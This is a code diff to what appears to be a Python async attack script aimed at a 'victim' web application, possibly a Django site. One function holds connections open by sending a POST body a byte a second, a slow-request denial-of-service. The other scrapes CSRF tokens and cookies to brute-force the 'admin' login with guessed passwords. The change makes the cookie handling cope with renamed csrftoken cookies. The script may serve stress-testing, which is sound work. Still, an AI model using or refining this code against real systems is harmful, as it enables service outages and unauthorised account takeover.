@@ -85,7 +85,7 @@ async def _send_slowly(victim: Victim, _number: int, _end: float) -> None:
     """Send the body of a vote a byte a second."""
     _reader, writer = await _connect(victim)
     form = "Content-Type: application/x-www-form-urlencoded"
-    writer.write(_head(victim, "POST", victim.page, form, f"Cookie: csrftoken={'a' * 32}", "Content-Length: 100"))
+    writer.write(_head(victim, "POST", victim.page, form, "Content-Length: 100"))
     while True:
         writer.write(b"a")
         await writer.drain()
@@ -127,11 +127,12 @@ async def _sign_in(victim: Victim, number: int, _end: float) -> None:
         page = (await reader.read()).decode(errors="replace")
         token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
         cookie = SimpleCookie("; ".join(re.findall(r"(?im)^set-cookie: (.*?)\r?$", page)))
-        if token is None or "csrftoken" not in cookie:
+        name = next((name for name in cookie if name.startswith("csrftoken")), None)
+        if token is None or name is None:
             return  # it has refused even the page
         body = f"csrfmiddlewaretoken={token[1]}&username=admin&password=guess-{number}"
         form = "Content-Type: application/x-www-form-urlencoded"
-        sent = (form, f"Cookie: csrftoken={cookie['csrftoken'].value}", f"Content-Length: {len(body)}")
+        sent = (form, f"Cookie: {name}={cookie[name].value}", f"Content-Length: {len(body)}")
         reader, writer = await _connect(victim)
         writer.write(_head(victim, "POST", "/accounts/login/", *sent, "Connection: close") + body.encode())
         await reader.read()
